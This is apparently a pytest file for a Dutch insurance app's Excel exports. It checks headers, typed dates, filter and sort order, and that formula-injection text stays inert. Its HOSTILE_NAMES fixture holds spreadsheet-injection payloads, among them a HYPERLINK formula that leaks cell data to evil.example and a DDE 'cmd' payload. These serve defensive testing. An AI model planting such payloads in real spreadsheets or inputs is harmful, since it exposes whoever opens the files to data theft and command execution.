"""The Excel files (C2, C3): they open with openpyxl, have a header row and typed date cells,
neutralise text that a spreadsheet would run as a formula, and follow the overview's search,
filter and order (C1)."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from resolvers.spreadsheets import DATE_FORMAT, FORMULA_STARTS, neutralise

from . import factories
from .employers import gid, make_employers
from .http import Api
from .inbox_steps import download, overview_link, request_list, sheet_of, wait_for_job

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+31(0)612345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
]
HEADER = (
    "Achternaam", "Tussenvoegsel", "Voorletters", "Voornaam", "Geboortedatum", "Relatie",
    "Polisnummer", "Werknemersnummer", "Ingangsdatum", "Einddatum", "Status",
)  # fmt: skip


async def _overview(api: Api, token: str, collectivity_id: int, **selection: Any) -> list[Any]:
    payload = await overview_link(api, token, collectivity_id, **selection)
    assert payload["userErrors"] == [], payload
    status, _headers, content = await download(api, payload["download"]["url"], token)
    assert status == 200
    return list(sheet_of(content).iter_rows())


async def test_c2_the_overview_has_a_header_and_typed_dates(
    quiet_api: Api, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    cast = await make_employers(session_factory)
    async with session_factory() as db:
        await factories.family(
            db, cast.x1, last_name="Bakker", end=dt.date(2026, 3, 31), employee_number="E-7"
        )
        await db.commit()
    token = await quiet_api.login(cast.main_x1.email)

    rows = await _overview(quiet_api, token, cast.x1.id)

    assert tuple(c.value for c in rows[0]) == HEADER
    assert all(c.font.b for c in rows[0])
    bakker = next(r for r in rows[1:] if r[0].value == "Bakker")
    values = dict(zip(HEADER, bakker, strict=True))
    for column, expected in (
        ("Geboortedatum", dt.date(1980, 5, 17)),
        ("Ingangsdatum", dt.date(2025, 1, 1)),
        ("Einddatum", dt.date(2026, 3, 31)),
    ):
        cell = values[column]
        assert cell.is_date, column
        assert cell.data_type == "d"
        assert cell.number_format == DATE_FORMAT
        assert cell.value.date() == expected
    assert values["Status"].value == "Beëindigd"
    assert values["Relatie"].value == "Hoofdverzekerde"
    assert values["Werknemersnummer"].value == "E-7"
    assert values["Tussenvoegsel"].value is None


async def test_c2_text_that_looks_like_a_formula_stays_text(
    quiet_api: Api, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    cast = await make_employers(session_factory)
    async with session_factory() as db:
        for name in HOSTILE_NAMES:
            await factories.family(db, cast.x1, last_name=name)
        await db.commit()
    token = await quiet_api.login(cast.main_x1.email)

    rows = await _overview(quiet_api, token, cast.x1.id)

    cells = {r[0].value: r[0] for r in rows[1:]}
    for name in HOSTILE_NAMES:
        cell = cells[name.replace("\r", "\n")]  # unchanged (XML reads a bare CR as LF)
        assert cell.data_type == "s", name  # a text cell, never a formula ("f")
        assert cell.quotePrefix is True, name  # and stays text when edited in Excel
    assert cells["Xander"].quotePrefix is False
    assert all(c.data_type != "f" for row in rows for c in row)


async def test_c3_the_extended_list_neutralises_formulas_too(
    jobs_api: Api, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    cast = await make_employers(session_factory)
    async with session_factory() as db:
        await factories.family(db, cast.x1, last_name=HOSTILE_NAMES[0])
        await db.commit()
    token = await jobs_api.login(cast.main_x1.email)
    job = (await request_list(jobs_api, token, cast.x1.id))["job"]

    finished = await wait_for_job(jobs_api, token, job["id"])
    _status, _headers, content = await download(
        jobs_api, finished["document"]["downloadUrl"], token
    )

    sheet = sheet_of(content)
    hostile = next(r[0] for r in sheet.iter_rows(min_row=2) if r[0].value == HOSTILE_NAMES[0])
    assert hostile.data_type == "s"
    assert hostile.quotePrefix is True
    assert sheet.cell(row=2, column=5).is_date


PAGE = """
query($id: ID!, $after: String, $filter: InsuredPersonFilter, $orderBy: InsuredPersonOrder) {
  collectivity(id: $id) {
    insuredPersons(first: 100, after: $after, filter: $filter, orderBy: $orderBy) {
      pageInfo { hasNextPage endCursor }
      edges { node { lastName firstName birthDate endDate employeeNumber } }
    }
  }
}
"""


async def _listing(api: Api, token: str, collectivity_id: int, **arguments: Any) -> list[tuple]:
    rows, after = [], None
    while True:
        body = await api.gql(
            PAGE,
            {"id": gid("Collectivity", collectivity_id), "after": after, **arguments},
            token=token,
        )
        assert "errors" not in body, body
        page = body["data"]["collectivity"]["insuredPersons"]
        rows += [(e["node"]["lastName"], e["node"]["birthDate"]) for e in page["edges"]]
        if not page["pageInfo"]["hasNextPage"]:
            return rows
        after = page["pageInfo"]["endCursor"]


@pytest.mark.parametrize(
    ("filter", "order_by"),
    [
        (None, None),
        ({"relation": ["CHILD"]}, {"field": "BIRTH_DATE", "direction": "DESC"}),
        (None, {"field": "END_DATE", "direction": "ASC"}),
        (None, {"field": "EMPLOYEE_NUMBER", "direction": "DESC"}),
        ({"status": ["ACTIVE", "ENDED"]}, {"field": "STATUS", "direction": "ASC"}),
        ({"name": {"contains": "an"}}, {"field": "RELATION", "direction": "DESC"}),
    ],
)
async def test_c2_the_overview_follows_the_current_filter_and_order(
    quiet_api: Api,
    session_factory: async_sessionmaker[AsyncSession],
    filter: dict | None,
    order_by: dict | None,
) -> None:
    cast = await make_employers(session_factory)
    async with session_factory() as db:
        for n, name in enumerate(["Jansen", "De Vries", "Bakker", "Visser", "Smit", "Mulder"]):
            await factories.family(
                db,
                cast.x1,
                last_name=name,
                children=n % 3,
                start=dt.date(2024, 1 + n, 1),
                end=dt.date(2026, 6, 30) if n % 2 else None,
                employee_number=f"E{n}" if n % 3 else None,
            )
        await db.commit()
    token = await quiet_api.login(cast.main_x1.email)
    arguments = {"filter": filter, "orderBy": order_by}

    listed = await _listing(quiet_api, token, cast.x1.id, **arguments)
    rows = await _overview(
        quiet_api, token, cast.x1.id, **{k: v for k, v in arguments.items() if v is not None}
    )

    exported = [(r[0].value, r[4].value.date().isoformat()) for r in rows[1:]]
    assert len(listed) > 1
    assert exported == listed


def test_c2_neutralise_flags_every_formula_start_and_keeps_other_text() -> None:
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1") is None
    assert neutralise("Jansen") == "Jansen"
    assert neutralise("van\x00 Dijk\x07") == "van Dijk"  # control characters XML cannot hold
    assert neutralise("Jan-Willem") == "Jan-Willem"
